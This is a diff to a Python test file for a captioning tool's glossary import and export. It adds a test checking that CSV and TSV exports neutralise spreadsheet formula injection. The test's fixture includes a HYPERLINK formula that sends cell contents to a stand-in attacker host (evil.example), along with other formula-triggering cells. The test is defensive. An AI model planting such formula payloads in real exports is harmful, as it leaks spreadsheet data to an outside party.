@@ -1,6 +1,7 @@
 """CSV, TSV and TBX-Basic: export then import gives the same glossary, as far as each format carries it."""
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import pytest
@@ -13,6 +14,7 @@ from captioner.glossary.formats import (
     read_csv,
     read_tbx,
     read_tsv,
+    read_yaml,
     write_csv,
     write_tbx,
     write_tsv,
@@ -186,3 +188,31 @@ def test_tsv_drops_concepts_without_that_language_and_reads_plain_comments():
     problems = []
     read_tsv("one column only\nA\tB\tC\tD\n", "es", "bad.es.tsv", problems)
     assert [p.line for p in problems] == [1, 2]
+
+
+def test_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas():
+    # =HYPERLINK(...) in a definition was written as it is: a spreadsheet opening the export runs it
+    hostile = read_yaml("""
+concepts:
+  - id: leak
+    term: border data
+    definition: '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    translations: {es: {term: "+datos fronterizos", status: approved, note: "@SUM(1+1)"}}
+  - id: minus
+    term: "-5 rule"
+    translations: {es: {term: "regla -5"}}
+""", "hostile.yaml")
+    csv_text = write_csv(hostile, ["es"])
+    rows = list(csv.reader(csv_text.splitlines()))
+    cells = [cell for row in rows[1:] for cell in row if cell]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
+    assert "'=HYPERLINK(" in csv_text and "'+datos fronterizos" in csv_text and "'-5 rule" in csv_text
+    again = read_csv(csv_text, "again.csv")  # reading the export back restores the text
+    assert again.lookup("border data").definition.startswith("=HYPERLINK(")
+    assert again.lookup("-5 rule").translations["es"].term == "regla -5"
+    assert again.lookup("border data").translations["es"].term == "+datos fronterizos"
+    tsv = write_tsv(hostile, "es")
+    assert all(not cell.startswith(("=", "+", "-", "@")) for line in tsv.splitlines() for cell in line.split("\t"))
+    back = read_tsv(tsv, "es", "again.es.tsv")
+    assert back.lookup("border data").translations["es"].term == "+datos fronterizos"
+    assert back.lookup("-5 rule").term == "-5 rule"
